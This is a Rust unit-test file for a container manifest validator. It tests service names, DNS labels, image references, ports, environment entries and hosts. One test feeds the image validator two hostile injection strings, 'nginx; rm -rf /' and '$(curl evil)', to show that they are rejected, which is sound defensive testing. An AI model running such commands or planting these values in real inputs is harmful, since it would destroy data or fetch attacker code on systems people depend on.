// Copyright 2024-2026 lease-kube Contributors
// SPDX-License-Identifier: Apache-2.0

//! Tests for manifest validation.

use super::*;
use crate::lease::types::{Protocol, ResourceUnit};

fn service(name: &str) -> ManifestService {
    ManifestService {
        name: name.to_string(),
        image: "nginx:1.25".to_string(),
        args: vec![],
        env: vec!["MODE=prod".to_string()],
        unit: ResourceUnit {
            cpu: 250,
            memory: 256 * 1024 * 1024,
            disk: 0,
        },
        count: 1,
        expose: vec![ManifestServiceExpose {
            port: 80,
            external_port: 0,
            proto: Protocol::Tcp,
            service: String::new(),
            global: true,
            hosts: vec!["app.example.com".to_string()],
        }],
    }
}

fn group(services: Vec<ManifestService>) -> ManifestGroup {
    ManifestGroup {
        name: "westcoast".to_string(),
        services,
    }
}

#[test]
fn test_valid_group_passes() {
    assert!(group(vec![service("web"), service("api")]).validate().is_ok());
}

#[test]
fn test_empty_group_passes() {
    assert!(group(vec![]).validate().is_ok());
}

#[test]
fn test_duplicate_service_rejected() {
    let err = group(vec![service("web"), service("web")])
        .validate()
        .unwrap_err();
    assert_eq!(err, ValidationError::DuplicateService("web".to_string()));
}

#[test]
fn test_uppercase_service_name_rejected() {
    let err = group(vec![service("Web")]).validate().unwrap_err();
    assert!(matches!(err, ValidationError::InvalidName(_)));
}

#[test]
fn test_service_name_too_long() {
    let name = "a".repeat(MAX_LABEL_LENGTH + 1);
    let err = validate_dns_label(&name, "service.name").unwrap_err();
    assert!(matches!(err, ValidationError::MaxLengthExceeded { max: 63, .. }));
}

#[test]
fn test_dns_label_edges() {
    assert!(validate_dns_label("a", "n").is_ok());
    assert!(validate_dns_label("web-1", "n").is_ok());
    assert!(validate_dns_label("-web", "n").is_err());
    assert!(validate_dns_label("web-", "n").is_err());
    assert!(validate_dns_label("web_1", "n").is_err());
    assert!(validate_dns_label("1web", "n").is_err());
    assert!(validate_dns_label("w1", "n").is_ok());
    assert_eq!(
        validate_dns_label("", "n").unwrap_err(),
        ValidationError::EmptyField("n".to_string())
    );
}

#[test]
fn test_leading_digit_service_name_rejected() {
    let err = group(vec![service("1web")]).validate().unwrap_err();
    assert!(matches!(err, ValidationError::InvalidName(_)));
}

#[test]
fn test_host_labels_may_start_with_digit() {
    assert!(validate_host("1app.example.com").is_ok());
}

#[test]
fn test_image_injection_rejected() {
    assert!(matches!(
        validate_image("nginx; rm -rf /").unwrap_err(),
        ValidationError::InvalidImage(_)
    ));
    assert!(matches!(
        validate_image("$(curl evil)").unwrap_err(),
        ValidationError::InvalidImage(_)
    ));
}

#[test]
fn test_image_valid_references() {
    assert!(validate_image("nginx").is_ok());
    assert!(validate_image("ghcr.io/acme/web:1.2.3").is_ok());
    assert!(validate_image("registry:5000/web@sha256:abcd").is_ok());
}

#[test]
fn test_image_leading_dash_rejected() {
    assert!(validate_image("-nginx").is_err());
    assert!(validate_image(".nginx").is_err());
}

#[test]
fn test_zero_port_rejected() {
    let mut svc = service("web");
    svc.expose[0].port = 0;
    let err = group(vec![svc]).validate().unwrap_err();
    assert_eq!(
        err,
        ValidationError::InvalidPort {
            service: "web".to_string(),
            port: 0
        }
    );
}

#[test]
fn test_same_port_to_different_targets_rejected() {
    let mut svc = service("web");
    svc.expose[0].port = 8080;
    svc.expose[0].external_port = 80;
    let mut second = svc.expose[0].clone();
    second.port = 3000;
    svc.expose.push(second);

    let err = group(vec![svc]).validate().unwrap_err();
    assert_eq!(
        err,
        ValidationError::ConflictingExpose {
            service: "web".to_string(),
            port: 80,
            proto: Protocol::Tcp,
        }
    );
}

#[test]
fn test_same_port_repeated_or_other_protocol_allowed() {
    let mut svc = service("web");
    let repeat = svc.expose[0].clone();
    let mut udp = svc.expose[0].clone();
    udp.port = 5353;
    udp.proto = Protocol::Udp;
    svc.expose.push(repeat);
    svc.expose.push(udp);

    assert!(group(vec![svc]).validate().is_ok());
}

#[test]
fn test_bad_env_entry_rejected() {
    let mut svc = service("web");
    svc.env.push("NOVALUE".to_string());
    let err = group(vec![svc]).validate().unwrap_err();
    assert!(matches!(err, ValidationError::InvalidEnv { .. }));
}

#[test]
fn test_env_value_may_contain_equals() {
    let mut svc = service("web");
    svc.env.push("QUERY=a=b".to_string());
    assert!(group(vec![svc]).validate().is_ok());
}

#[test]
fn test_bad_host_rejected() {
    let mut svc = service("web");
    svc.expose[0].hosts = vec!["bad host.com".to_string()];
    assert!(matches!(
        group(vec![svc]).validate().unwrap_err(),
        ValidationError::InvalidHost(_)
    ));
}

#[test]
fn test_error_display() {
    let err = ValidationError::InvalidPort {
        service: "web".to_string(),
        port: 0,
    };
    assert_eq!(err.to_string(), "Service 'web' exposes invalid port 0");
}
